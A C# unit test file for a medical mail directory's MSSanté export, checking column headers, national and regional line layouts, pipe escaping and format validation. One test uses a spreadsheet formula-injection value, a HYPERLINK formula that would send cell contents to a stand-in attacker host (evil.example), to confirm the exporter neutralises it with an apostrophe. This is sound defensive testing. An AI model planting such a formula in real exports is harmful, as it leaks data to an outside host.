using Medimail.Contracts;
using Medimail.ServiceDefaults.Errors;

namespace Medimail.Directory.UnitTests;

public sealed class MssanteExportTests
{
    private static DirectoryEntry Entry(string type, string? rpps = null, string? adeli = null, string? mssante = null,
        string lastName = "DUPONT | FILS", string firstName = "Jean\nPaul", string legalName = "CH de test") =>
        DirectoryEntry.Create(new AccountSnapshot
        {
            Email = "box@ch-test.fr",
            Type = type,
            State = "ACTIVE",
            StructureId = "s",
            Version = 1,
            LastName = lastName,
            FirstName = firstName,
            Rpps = rpps,
            Adeli = adeli,
            MssanteAddress = mssante,
            ExerciseTitle = "DR",
            Profession = "10",
            Specialty = "SM04",
            LegalName = legalName,
            Address = new AddressSnapshot { PostalCode = "31000", DepartmentCode = "31" },
        });

    [Fact]
    public void The_header_names_the_national_extraction_columns() =>
        Assert.Equal("type_bal|adresse_bal|type_identifiant_pp|identifiant_pp|civilite_exercice|nom_exercice|prenom_exercice|"
            + "code_profession|libelle_profession|code_savoir_faire|raison_sociale|code_postal|departement", MssanteExport.Header);

    [Fact]
    public void A_national_line_publishes_the_mssante_address_and_the_rpps_as_type_8() =>
        Assert.Equal("PER|dupont@ch-test.mssante.fr|8|10003456789|DR|DUPONT   FILS|Jean Paul|10||SM04|CH de test|31000|31",
            MssanteExport.Line(Entry("INT", rpps: "10003456789", mssante: "dupont@ch-test.mssante.fr"), DirectoryKind.National));

    [Fact]
    public void A_regional_line_keeps_the_box_address_the_type_and_an_adeli_as_type_0() =>
        Assert.Equal("INT|box@ch-test.fr|0|123456789|DR|DUPONT   FILS|Jean Paul|10||SM04|CH de test|31000|31",
            MssanteExport.Line(Entry("INT", adeli: "123456789", mssante: "dupont@ch-test.mssante.fr"), DirectoryKind.Regional));

    [Fact]
    public void Every_line_has_the_thirteen_columns_even_with_pipes_in_values() =>
        Assert.Equal(13, MssanteExport.Line(Entry("ORG"), DirectoryKind.National).Split('|').Length);

    [Fact]
    public void A_value_a_spreadsheet_would_run_as_a_formula_is_written_behind_an_apostrophe()
    {
        var columns = MssanteExport.Line(Entry("INT", rpps: "10003456789",
            lastName: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")", firstName: "+33 Jean", legalName: "@SUM(1+1)"),
            DirectoryKind.National).Split('|');

        Assert.Equal("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")", columns[5]);
        Assert.Equal("'+33 Jean", columns[6]);
        Assert.Equal("'@SUM(1+1)", columns[10]);
        Assert.Equal("DR", columns[4]);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("mssante")]
    [InlineData(" MsSante ")]
    // That no format means the MSSANTE layout is checked end to end: Directory.IntegrationTests ExportTests.
    public void The_mssante_format_or_none_is_accepted_whatever_the_case(string? format) => MssanteExport.EnsureFormat(format);

    [Fact]
    public void Another_format_names_the_format_field() =>
        Assert.Equal("format", Assert.Single(Assert.Throws<ValidationFailedException>(() => MssanteExport.EnsureFormat("CSV")).Violations).Field);
}
